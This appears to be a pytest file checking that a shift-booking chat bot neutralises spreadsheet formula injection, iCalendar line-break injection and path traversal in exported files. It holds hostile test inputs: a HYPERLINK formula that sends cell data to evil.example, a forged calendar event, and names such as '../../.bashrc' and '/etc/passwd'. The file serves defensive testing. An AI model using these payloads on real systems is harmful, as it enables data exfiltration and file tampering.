"""Names and titles in files for spreadsheets and calendars: they are shown there, and do nothing."""

from __future__ import annotations

import re
from importlib import import_module
from pathlib import Path
from typing import Any

import pytest
import vobject
from icalendar.parser import Contentline, content_line
from icalendar.prop import vText

from bot.clock import ManualClock
from bot.exporting import export
from bot.papers import render
from commands.handlers import roster
from tests.papers.examples import calendar, event
from tests.papers.test_tables import read
from tests.stories.given import ringstuga, told
from tests.support.filled import fill, settings_in
from tests.support.story import MONDAY, Someone, Story

TABLES = import_module("bot.papers.table")
FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Bo")'
NAMES = (FORMULA, "+46 70", "-2+3", "@SUM(A1:A9)", "＝1+1")
ONE_MORE = (
    "Ringstuga\nEND:VEVENT\nBEGIN:VEVENT\nUID:other\nDTSTART:20240514T160000Z\nSUMMARY:Fest hos Mallory"
)


async def _roster(story: Story, name: str) -> list[list[str]]:
    """The table that an organizer gets, of a shift that somebody of this name is booked on."""
    await ringstuga(story)
    await told(Someone(story, "@mallory:elsewhere.org", name), "!anmäl 1", "signup-booked")
    heard = await story.anna.says("!bokade 1 som=csv", room=story.organizers_room)
    file = story.file_of(heard)
    assert file is not None
    return read(file.data)


@pytest.mark.parametrize("name", NAMES)
async def test_no_name_is_calculated_in_the_table_that_organizers_get(story: Story, name: str) -> None:
    (row,) = (await _roster(story, name))[1:]
    assert f"'{name}" in row
    assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "＝"))]


async def test_without_the_apostrophe_a_name_would_be_calculated(
    story: Story, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(TABLES, "defused", str)
    (row,) = (await _roster(story, FORMULA))[1:]
    assert FORMULA in row


def _exported(folder: Path) -> str:
    configured = settings_in(folder)
    fill(configured, name=FORMULA)
    out = folder / "people.csv"
    export(configured, "people", "csv", out, clock=ManualClock(MONDAY))
    return out.read_text(encoding="utf-8")


def test_no_name_is_calculated_in_what_the_operator_exports(tmp_path: Path) -> None:
    assert "'=HYPERLINK" in _exported(tmp_path)


def test_without_the_apostrophe_it_would_be_in_exports_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(TABLES, "defused", str)
    assert "'=HYPERLINK" not in _exported(tmp_path)


def _events(title: str) -> list[Any]:
    """What a calendar of another make finds in the file of one shift."""
    data = render(calendar(event(title=title, place=title, text=[title]))).data
    return list(vobject.readOne(data.decode()).vevent_list)


def test_no_title_becomes_an_appointment_of_its_own() -> None:
    (found,) = _events(ONE_MORE)
    assert found.uid.value == "signup-31-sjuharad@example.org"


def test_without_escaping_line_breaks_a_title_would_be_another_appointment(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The library escapes, and asserts twice that it has; asserting is over under `python -O`."""
    monkeypatch.setattr(vText, "to_ical", lambda text: str(text).replace("\n", "\r\n").encode())
    monkeypatch.setattr(Contentline, "__new__", lambda kind, line: str.__new__(kind, line))
    monkeypatch.setattr(content_line, "_foldline", str)
    assert "Fest hos Mallory" in [one.summary.value for one in _events(ONE_MORE)]


UPWARDS = "../../.bashrc"
PLAIN_FILE = re.compile(r"[a-zåäö0-9-]+\.(csv|pdf|ics|png|json)")


async def _file_names(story: Story) -> list[str]:
    """What files are called that are about somebody, and something, with the name of a path."""
    await told(story.anna, f'!aktivitet ny ringstuga "{UPWARDS}" plats="{UPWARDS}"', "activity-added")
    await told(story.anna, "!pass ny ringstuga tis 18-20", "shift-added")
    mallory = Someone(story, "@mallory:elsewhere.org", UPWARDS)
    heard = [await told(mallory, "!anmäl 1", "signup-booked")]
    for form in ("csv", "pdf", "ics"):
        heard.append(await story.anna.says(f"!bokade 1 som={form}", room=story.organizers_room))
    heard.append(await mallory.says("!mina som=ics"))
    files = [story.file_of(one) for one in heard]
    return [file.name for file in files if file is not None]


async def test_no_word_of_anybodys_becomes_part_of_a_files_name(story: Story) -> None:
    names = await _file_names(story)
    assert len(names) == 5
    assert [one for one in names if not PLAIN_FILE.fullmatch(one)] == []


async def test_an_activity_is_not_called_like_a_path(story: Story) -> None:
    for name in (UPWARDS, "/etc/passwd", "..", "a/b", "a\\b", "~"):
        await told(story.anna, f'!aktivitet ny "{name}"', "error-slug")


async def test_the_control_a_files_name_that_leads_elsewhere_is_found(
    story: Story, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(roster, "FILE_NAMES", {"sv": UPWARDS, "en": UPWARDS})
    assert len([one for one in await _file_names(story) if not PLAIN_FILE.fullmatch(one)]) == 3
